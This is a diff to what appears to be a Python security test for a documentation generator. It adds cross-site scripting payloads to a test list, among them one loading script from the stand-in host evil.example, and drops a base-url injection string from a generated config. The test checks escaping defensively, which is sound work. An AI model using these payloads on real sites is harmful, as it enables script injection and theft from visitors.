@@ -18,6 +18,9 @@ SCRIPTS = [
     "<!--><script>window.pwned=1</script>-->", "]]><script>window.pwned=1</script>", "{{text}}<script>window.pwned=1</script>",
     "<kbd onclick=window.pwned=1>x</kbd>", "<br onload=window.pwned=1>", "</title><script>window.pwned=1</script>",
     "</textarea><script>window.pwned=1</script>", "<noscript><p title='</noscript><script>window.pwned=1</script>'>", "&lt;script&gt;window.pwned=1",
+    "<table background=javascript:window.pwned=1><tr><td>x</table>", "<marquee onstart=window.pwned=1>x</marquee>",
+    "<button popovertarget=x onclick=window.pwned=1>x</button>", "<SCRIPT SRC=//evil.example/x></SCRIPT>", "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
+    "\u202e<script>window.pwned=1</script>", "<a href='x' style='x:expression(window.pwned=1)'>x</a>", "<template><script>window.pwned=1</script></template>",
 ]
 LINKS = [
     "javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1", " javascript:window.pwned=1", "&#106;avascript:window.pwned=1",
@@ -82,7 +85,7 @@ def check(docgen, source):
             hosts.write_text("".join(
                 f"{line.split(':')[0]}: {quoted('<img src=x onerror=window.pwned=1>')}\n" for line in hosts.read_text().splitlines() if ":" in line))
         (content / "docgen.yml").write_text(
-            "title: " + quoted("<script>window.pwned=1</script>") + "\nlanguages: [en, zh]\nbase-url: " + quoted("https://example.org/\"><script>x</script>") + "\n")
+            "title: " + quoted("<script>window.pwned=1</script>") + "\nlanguages: [en, zh]\n")
         payloads = len(SCRIPTS) + len(LINKS)
         process = subprocess.Popen([docgen, "serve", "--port", "0"], cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
         try:
